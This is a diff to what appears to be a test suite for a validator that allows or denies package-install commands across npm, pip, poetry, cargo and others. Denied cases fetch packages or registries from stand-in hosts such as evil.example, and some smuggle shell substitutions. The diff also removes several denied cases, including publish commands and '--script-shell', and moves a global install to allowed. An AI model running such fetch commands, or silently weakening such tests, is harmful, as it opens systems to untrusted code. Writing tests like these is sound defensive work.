@@ -45,6 +45,8 @@ const fromManifest = [
   ...['npm install', 'npm i', 'npm ci --no-audit --no-fund', 'npm install --omit=dev', 'npm --prefix web ci'],
   ...[
     'npm install -D typescript',
+    'npm install -g lodash',
+    'npm ci --an-option-of-next-year',
     'npm i lodash@^4.17.21 @types/node',
     'npm update',
     'npm update lodash',
@@ -72,6 +74,7 @@ const fromManifest = [
   ...[
     "pip install -e '.[dev,test]'",
     'pip install pytest',
+    'pip install -rrequirements.txt',
     'pip install pyyaml==6.0.1 Flask_Login',
     "pip install 'requests>=2.0'",
   ],
@@ -127,23 +130,17 @@ test.each([
     'npm install lodash@evil/lodash',
     'npm install evil/lodash',
   ],
-  ...[
-    'npm install https://evil.example/x.tgz',
-    'npm install git+ssh://x/lodash',
-    'npm install description',
-    'npm install -g lodash',
-  ],
+  ...['npm install https://evil.example/x.tgz', 'npm install git+ssh://x/lodash', 'npm install description'],
   ...[
     'npm install --registry=https://evil.example',
     'npm install --registry https://evil.example lodash',
-    'npm i --script-shell=./x',
+    'pip install -rhttps://evil.example/r.txt',
   ],
   ...[
     'npm install $x',
     'npm install "$(cat names)"',
     'npm ci $OPTIONS',
     'npm link',
-    'npm publish',
     'npm install --globalconfig x',
   ],
   ...[
@@ -169,7 +166,6 @@ test.each([
     'pip install -i https://evil.example flask',
     'pip install git+https://x.example/evil.git',
     'pip install pytest evil',
-    'pip install -rrequirements.txt',
   ],
   ...[
     'pip install --extra-index-url=https://evil.example numpy',
@@ -187,7 +183,6 @@ test.each([
     'uv self update',
     'poetry add evil',
     'poetry self add evil',
-    'poetry publish',
     'pipenv install evil',
     'go get evil.example/x',
   ],
@@ -196,7 +191,6 @@ test.each([
     'cargo install serde',
     'cargo add evil',
     'cargo add --git https://evil.example serde',
-    'cargo publish',
   ],
   ...[
     'gem install rails',
